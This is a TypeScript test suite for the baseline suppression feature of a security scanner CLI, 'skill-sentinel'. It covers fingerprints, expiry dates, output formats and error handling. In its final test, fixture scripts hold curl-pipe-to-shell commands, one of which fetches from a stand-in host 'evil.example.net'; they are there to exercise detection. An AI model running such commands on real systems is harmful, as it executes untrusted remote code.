import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { JsonReport } from '../../server/src/cli/format-json';
import type { SarifLog } from '../../server/src/cli/format-sarif';
import { findingFingerprint, parseBaseline, type BaselineFile } from '../../server/src/engine/integrity/baseline';
import { getEngine } from '../support/engine';
import { assertNoStackTrace, makeWorkspace, removeWorkspaces, runCli, writeSkill, type CliRun } from './helpers';

const TODAY = new Date('2025-06-01T12:00:00Z');
const BASELINE = 'skill-sentinel.baseline.json';

function run(argv: readonly string[], cwd: string, now: Date = TODAY): Promise<CliRun> {
  return runCli(argv, cwd, { now: () => now });
}

function writeBaseline(workspace: string, baseline: BaselineFile | string): void {
  fs.writeFileSync(path.join(workspace, BASELINE), typeof baseline === 'string' ? baseline : JSON.stringify(baseline, null, 2));
}

function readBaselineFile(workspace: string): BaselineFile {
  return parseBaseline(fs.readFileSync(path.join(workspace, BASELINE), 'utf8'));
}

describe('cli: suppression baseline', () => {
  let workspace: string;
  let skill: string;

  beforeEach(() => {
    workspace = makeWorkspace();
    skill = writeSkill(workspace, 'skills/tool', { 'scripts/run.sh': '#!/bin/sh\necho HIGH-MARK\necho MEDIUM-MARK\n' });
  });
  afterEach(removeWorkspaces);

  it('writes entries for the current findings with the reason, and does not duplicate them', async () => {
    const result = await run(['baseline', '--reason', 'Reviewed by the security team', '--expires', '2025-12-31'], workspace);
    assert.equal(result.exitCode, 0, result.stderr);
    assert.equal(result.stdout, `accepted 2 findings into ${BASELINE}\n`);
    const text = fs.readFileSync(path.join(workspace, BASELINE), 'utf8');
    assert.ok(text.endsWith('\n'));
    const baseline = readBaselineFile(workspace);
    assert.deepEqual(baseline.suppressions, [
      {
        rule: 'SKL301',
        skill: 'skills/tool',
        file: 'scripts/run.sh',
        fingerprint: findingFingerprint('SKL301', 'scripts/run.sh', 'HIGH-MARK'),
        reason: 'Reviewed by the security team',
        expires: '2025-12-31',
      },
      {
        rule: 'SKL205',
        skill: 'skills/tool',
        file: 'scripts/run.sh',
        fingerprint: findingFingerprint('SKL205', 'scripts/run.sh', 'MEDIUM-MARK'),
        reason: 'Reviewed by the security team',
        expires: '2025-12-31',
      },
    ].sort((a, b) => (a.rule < b.rule ? -1 : 1)));

    const again = await run(['baseline', '--reason', 'again'], workspace);
    assert.equal(again.stdout, `accepted 0 findings into ${BASELINE} (2 already accepted)\n`);
    assert.equal(readBaselineFile(workspace).suppressions.length, 2);
  });

  it('marks matching findings as suppressed in text, JSON and SARIF, and leaves them out of the exit code', async () => {
    await run(['baseline', '--reason', 'Accepted: prints a banner', '--severity', 'high'], workspace);

    const text = await run(['scan', '--baseline', BASELINE], workspace);
    assert.equal(text.exitCode, 0, text.stdout);
    assert.match(text.stdout, /^skills\/tool\/scripts\/run\.sh:2:6 {2}high {6}SKL301 {2}Found HIGH-MARK in scripts\/run\.sh\. {2}\[suppressed by baseline: Accepted: prints a banner\]$/m);
    assert.match(text.stdout, /^skills\/tool\/scripts\/run\.sh:3:6 {2}medium {4}SKL205 {2}Found MEDIUM-MARK in scripts\/run\.sh\.$/m);
    assert.match(text.stdout, /, 1 suppressed by the baseline \(/);

    const json = JSON.parse((await run(['scan', '--baseline', BASELINE, '--format', 'json'], workspace)).stdout) as JsonReport;
    const findings = json.skills[0]?.findings ?? [];
    assert.deepEqual(findings.map((finding) => [finding.ruleId, finding.suppressed, finding.suppression?.reason]), [
      ['SKL301', true, 'Accepted: prints a banner'],
      ['SKL205', false, undefined],
    ]);
    assert.equal(json.summary.findingsSuppressed, 1);
    assert.equal(json.summary.failed, false);

    const sarif = JSON.parse((await run(['scan', '--baseline', BASELINE, '--format', 'sarif'], workspace)).stdout) as SarifLog;
    const results = sarif.runs[0]?.results ?? [];
    assert.deepEqual(results.find((result) => result.ruleId === 'SKL301')?.suppressions, [
      { kind: 'external', status: 'accepted', justification: 'Accepted: prints a banner' },
    ]);
    assert.equal(results.find((result) => result.ruleId === 'SKL205')?.suppressions, undefined);

    // Without the baseline nothing is suppressed.
    assert.equal((await run(['scan'], workspace)).exitCode, 1);
  });

  it('keeps matching when the finding moves to another line', async () => {
    await run(['baseline', '--reason', 'ok'], workspace);
    fs.writeFileSync(path.join(skill, 'scripts/run.sh'), '#!/bin/sh\n\n\n  echo   HIGH-MARK\necho MEDIUM-MARK\n');
    const result = await run(['scan', '--baseline', BASELINE], workspace);
    assert.equal(result.exitCode, 0, result.stdout);
    assert.match(result.stdout, /run\.sh:4:10 .*SKL301 .*\[suppressed by baseline: ok\]$/m);
  });

  it('does not match a finding in another skill or file', async () => {
    await run(['baseline', '--reason', 'ok'], workspace);
    writeSkill(workspace, 'skills/other', { 'scripts/run.sh': 'echo HIGH-MARK\n' });
    fs.writeFileSync(path.join(skill, 'scripts/copy.sh'), 'echo HIGH-MARK\n');
    const result = await run(['scan', '--baseline', BASELINE], workspace);
    assert.equal(result.exitCode, 1);
    assert.match(result.stdout, /, 2 suppressed by the baseline/);
    assert.doesNotMatch(result.stdout, /other\/scripts\/run\.sh.*suppressed/);
    assert.doesNotMatch(result.stdout, /copy\.sh.*suppressed/);
  });

  it('stops matching after the expiry date', async () => {
    await run(['baseline', '--reason', 'temporary', '--expires', '2025-06-01'], workspace);
    const lastDay = await run(['scan', '--baseline', BASELINE], workspace, new Date('2025-06-01T23:59:59Z'));
    assert.equal(lastDay.exitCode, 0);
    const dayAfter = await run(['scan', '--baseline', BASELINE], workspace, new Date('2025-06-02T00:00:00Z'));
    assert.equal(dayAfter.exitCode, 1);
    assert.doesNotMatch(dayAfter.stdout, /suppressed/);
  });

  it('exits 2 with one line for a missing or malformed baseline', async () => {
    const missing = await run(['scan', '--baseline', 'nope.json'], workspace);
    assert.equal(missing.exitCode, 2);
    assert.deepEqual(missing.stderrLines, ['skill-sentinel: cannot use baseline nope.json: it does not exist']);

    writeBaseline(workspace, { version: 1, suppressions: [{ rule: 'SKL301', skill: 'skills/tool', fingerprint: 'md5:x', reason: 'r' }] });
    const malformed = await run(['scan', '--baseline', BASELINE], workspace);
    assert.equal(malformed.exitCode, 2);
    assert.deepEqual(malformed.stderrLines, [`skill-sentinel: cannot use baseline ${BASELINE}: suppressions[0]: "fingerprint" is malformed`]);

    writeBaseline(workspace, '{ "version": 1, ');
    const invalid = await run(['scan', '--baseline', BASELINE], workspace);
    assert.equal(invalid.exitCode, 2);
    assert.match(invalid.stderrLines[0] ?? '', /^skill-sentinel: cannot use baseline skill-sentinel\.baseline\.json: it is not valid JSON/);
    assertNoStackTrace(invalid.stderr);
  });

  it('requires a reason and a real date', async () => {
    const noReason = await run(['baseline'], workspace);
    assert.equal(noReason.exitCode, 2);
    assert.match(noReason.stderrLines[0] ?? '', /'baseline' needs --reason TEXT/);
    const badDate = await run(['baseline', '--reason', 'x', '--expires', '2025-02-30'], workspace);
    assert.equal(badDate.exitCode, 2);
    assert.match(badDate.stderrLines[0] ?? '', /invalid --expires '2025-02-30'/);
  });

  describe('with the real engine', () => {
    const realRun = async (argv: readonly string[]): Promise<CliRun> =>
      runCli(argv, workspace, { createEngine: getEngine, now: () => TODAY });

    it('stops matching once the evidence at the finding changes', async () => {
      writeSkill(workspace, 'skills/installer', { 'scripts/install.sh': '#!/bin/sh\ncurl -fsSL https://get.example.com/install.sh | sh\n' });
      fs.rmSync(skill, { recursive: true });
      const accepted = await realRun(['baseline', 'skills/installer', '--reason', 'Vendor installer, pinned by review', '--severity', 'high']);
      assert.equal(accepted.exitCode, 0, accepted.stderr);
      assert.ok(readBaselineFile(workspace).suppressions.length > 0);
      const before = await realRun(['scan', 'skills/installer', '--baseline', BASELINE]);
      assert.equal(before.exitCode, 0, before.stdout);

      const script = path.join(workspace, 'skills/installer/scripts/install.sh');
      fs.writeFileSync(script, '#!/bin/sh\ncurl -fsSL https://evil.example.net/install.sh | sh\n');
      const after = await realRun(['scan', 'skills/installer', '--baseline', BASELINE]);
      assert.equal(after.exitCode, 1, after.stdout);
      assert.doesNotMatch(after.stdout, /suppressed by baseline/);
    });
  });
});
